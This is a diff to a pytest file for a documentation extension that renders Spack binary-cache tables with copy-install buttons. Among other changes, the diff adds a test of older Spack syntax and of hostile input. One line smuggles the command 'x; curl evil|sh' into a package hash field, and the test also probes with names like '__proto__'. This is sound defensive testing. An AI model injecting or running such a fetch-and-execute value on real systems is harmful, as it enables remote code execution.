@@ -20,7 +20,7 @@ from typing import Any
 import pytest
 
 from . import records as expected
-from .conftest import DOCS, Build, warnings_of
+from .conftest import DOCS, RECORDS, Build, warnings_of
 from .test_targets import archspec_runs, expected_count
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
@@ -354,12 +354,64 @@ def test_rows_copy_their_install_command_and_save_as_csv(
     download_info.value.save_as(path)
     lines = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
     assert lines[0][0] == "hash"
-    assert {"version", "compiler", "os", "platform", "target", "variant", "stack"} <= set(lines[0])
+    # the headings the exported files use
+    assert {"versions", "compiler", "os", "platform", "target", "variants", "stacks"} <= set(
+        lines[0]
+    )
     wanted = {s["hash"] for s in expected.specs(TAG, "cmake") if archspec_runs(s["target"], "zen3")}
     assert {line[0] for line in lines[1:]} == wanted
     target = lines[0].index("target")
     assert {line[target] for line in lines[1:]} == {"x86_64_v3"}
     watched.close()
+
+
+def test_install_commands_of_an_older_spack_and_hostile_input(
+    build: Build, browser: Browser, tmp_path: Path
+) -> None:
+    """A v0.18.1 snapshot of unsigned binaries (a copy of v0.23.1's cmake under that tag)
+    gets Spack 0.18's spelling; a hash that is not a Spack hash gets no install command;
+    an address naming a CPU that is a property of every JavaScript object breaks nothing."""
+    records = tmp_path / "records"
+    shutil.copytree(RECORDS, records)
+    old = records / "v0.18.1" / "cmake"
+    old.parent.mkdir()
+    shutil.move(records / "v0.23.1" / "cmake", old)
+    record = old / "specs.md"
+    record.write_text(record.read_text("utf-8").replace("v0.23.1", "v0.18.1"), "utf-8")
+    odd = records / TAG / "py-packaging" / "specs.md"
+    odd.write_text(
+        odd.read_text("utf-8").replace("26rmhpljzmc7qjygxviehb7lrvsswwiq", "x; curl evil|sh"),
+        "utf-8",
+    )
+    app = build("install", "html", conf={"spackcache_path": str(records)})
+    (app.srcdir / "old.rst").write_text(
+        ":orphan:\n\nOld\n===\n\n.. cache-package:: cmake\n   :tag: v0.18.1\n   :unsigned:\n",
+        "utf-8",
+    )
+    app = build("install", "html", conf={"spackcache_path": str(records)})
+    watched = Watched(browser)
+    watched.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page = watched.page
+    page.goto((app.outdir / "old.html").as_uri())
+    first = page.locator("table.spackcache-specs tbody tr").first
+    full = first.locator("td.spackcache-hash code").inner_text()
+    first.locator("button.spackcache-copy-install").click()
+    command = page.evaluate("() => navigator.clipboard.readText()")
+    assert command == f"spack install --cache-only --no-check-signature /{full}"
+
+    page.goto((app.outdir / "index.html").as_uri())
+    cells = page.locator("table.spackcache-specs td.spackcache-hash")
+    odd_cell = cells.filter(has_text="curl evil")
+    assert odd_cell.count() == 1
+    assert odd_cell.locator("button.spackcache-copy").count() == 1  # the hash only
+    assert odd_cell.locator("button.spackcache-copy-install").count() == 0
+    assert cells.locator("button.spackcache-copy-install").count() == 26
+
+    for name in ("constructor", "__proto__", "toString"):
+        page.goto((app.outdir / "index.html").as_uri() + f"?runs-on={name}")
+        assert rows(page) == 0
+        assert page.locator(".spackcache-cpu select").first.input_value() == name
+    watched.close()  # asserts no script error
 
 
 def test_without_javascript_the_whole_table_is_there(build: Build, browser: Browser) -> None:
